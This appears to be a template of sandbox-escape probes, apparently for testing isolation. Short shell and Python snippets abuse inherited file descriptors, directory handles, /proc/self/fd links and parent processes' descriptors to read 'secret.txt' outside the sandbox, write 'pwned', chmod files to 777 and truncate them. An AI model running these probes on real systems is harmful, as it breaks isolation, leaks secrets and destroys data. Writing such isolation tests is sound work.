### written by number
for fd in 3 4 5 6 7 8 9; do (eval "echo pwned >&$fd") ; done
### a folder that is held
python3 - <<'P'
import os
for fd in range(3, 256):
    for name in ("secret.txt", "../outside/secret.txt", "../../outside/secret.txt"):
        try: print(os.read(os.open(name, os.O_RDONLY, dir_fd=fd), 99))
        except OSError: pass
    try: os.open("made-by-handle.txt", os.O_CREAT | os.O_WRONLY, dir_fd=fd)
    except OSError: pass
P
### everything that is open, by its link
python3 - <<'P'
import os
def ours(path):
    try: return os.readlink(path).startswith("@WORLD@")
    except OSError: return False
for fd in os.listdir("/proc/self/fd"):
    if int(fd) < 3 or not ours(f"/proc/self/fd/{fd}"): continue
    for mode in (os.O_WRONLY | os.O_APPEND, os.O_RDONLY):
        try:
            held = os.open(f"/proc/self/fd/{fd}", mode)
            if mode == os.O_RDONLY: print(os.read(held, 99))
            else: os.write(held, b"pwned\n")
        except OSError: pass
    try: os.fchmod(int(fd), 0o777); os.ftruncate(int(fd), 0)
    except OSError: pass
P
### left by the parents
python3 - <<'P'
import os
def ours(path):
    try: return os.readlink(path).startswith("@WORLD@")
    except OSError: return False
pid = os.getpid()
while pid > 1:
    stat = open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()
    for fd in os.listdir(f"/proc/{pid}/fd") if os.access(f"/proc/{pid}/fd", os.R_OK) else []:
        if int(fd) < 3 or not ours(f"/proc/{pid}/fd/{fd}"): continue
        try: print(open(f"/proc/{pid}/fd/{fd}").read(99))
        except (OSError, UnicodeDecodeError): pass
        try: open(f"/proc/{pid}/fd/{fd}", "a").write("pwned\n")
        except OSError: pass
    pid = int(stat[1])
P
